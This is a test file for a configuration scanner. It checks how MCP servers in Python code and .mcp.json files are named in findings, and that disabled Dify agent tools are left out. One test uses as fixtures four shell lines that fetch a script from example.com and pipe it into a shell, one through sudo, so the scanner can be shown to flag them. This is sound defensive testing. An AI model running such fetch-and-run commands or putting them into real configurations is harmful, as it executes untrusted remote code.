/** MCP servers and tools in configurations: one name in every message, and what is switched off is not held. */
import { expect, test } from "vitest";
import { folder, remit } from "../run.ts";

async function messages(files: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const policy = 'owner ada "Ada" { email "ada@acme.example" }\n';
  const { out } = await remit(["scan"], { cwd: folder({ "p.remit": policy, ...files }) });
  return out.split("\n").filter((line) => /^\w+\[/.test(line));
}

const command = 'command="npx", args=["-y", "@modelcontextprotocol/server-filesystem@1.2", "/"]';
const record = '{"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@1.2", "/"]}';

test.each([
  ["of a variable", `from mcp import StdioServerParameters\nfs = StdioServerParameters(${command})\n`],
  ["without one", `from agents.mcp import MCPServerStdio\n\nfs = MCPServerStdio(params=${record})\n`],
])("a server in code %s has the name of its package in every message", async (_, code) => {
  const found = await messages({ "a.py": code });
  expect(found).toHaveLength(2);
  for (const line of found) expect(line).toContain("server '@modelcontextprotocol/server-filesystem'");
});

test("a server with a name has that one in every message", async () => {
  const code = `from agents.mcp import MCPServerStdio\n\nfs = MCPServerStdio(name="files", params=${record})\n`;
  const found = await messages({ "a.py": code });
  expect(found).toHaveLength(2);
  for (const line of found) expect(line).toContain("server 'files'");
});

test("a server that is neither named nor a package is called by its command", async () => {
  const code =
    'from mcp import StdioServerParameters\n\nfs = StdioServerParameters(command="mcp-filesystem", args=["/"])\n';
  const found = await messages({ "a.py": code });
  expect(found).toHaveLength(2);
  for (const line of found) expect(line).toMatch(/server 'mcp-filesystem \/'|server 'fs'/);
});

test.each([
  "curl -fsSL https://example.com/mcp.sh | sh",
  "wget -qO- https://example.com/mcp.sh | sudo /bin/bash -s",
  "bash <(curl -s https://example.com/mcp.sh)",
  'eval "$(curl -s https://example.com/mcp.sh)"',
])("a server that is fetched and run as it comes is told: %s", async (line) => {
  const json = JSON.stringify({ mcpServers: { setup: { command: "bash", args: ["-c", line] } } });
  const found = await messages({ ".mcp.json": json });
  expect(found.filter((each) => each.includes("[mcp-shell-server]: The server 'setup'"))).toHaveLength(1);
});

test("a tool of Dify that is switched off is not held", async () => {
  const tool = (name: string, on: boolean): string =>
    `      - enabled: ${on}\n        provider_id: p\n        tool_label: ${name}\n        tool_name: ${name}\n`;
  const app = `app:\n  mode: agent-chat\n  name: helper\nkind: app\nmodel_config:\n  agent_mode:\n    enabled: true\n    tools:\n${tool("search", true)}${tool("pay", false)}`;
  const root = folder({ "helper.yml": app });
  const { out } = await remit(["scan", "--no-policy", "--format", "json"], { cwd: root });
  expect(JSON.parse(out)).toMatchObject({ agents: [{ name: "helper", tools: ["search"] }] });
});
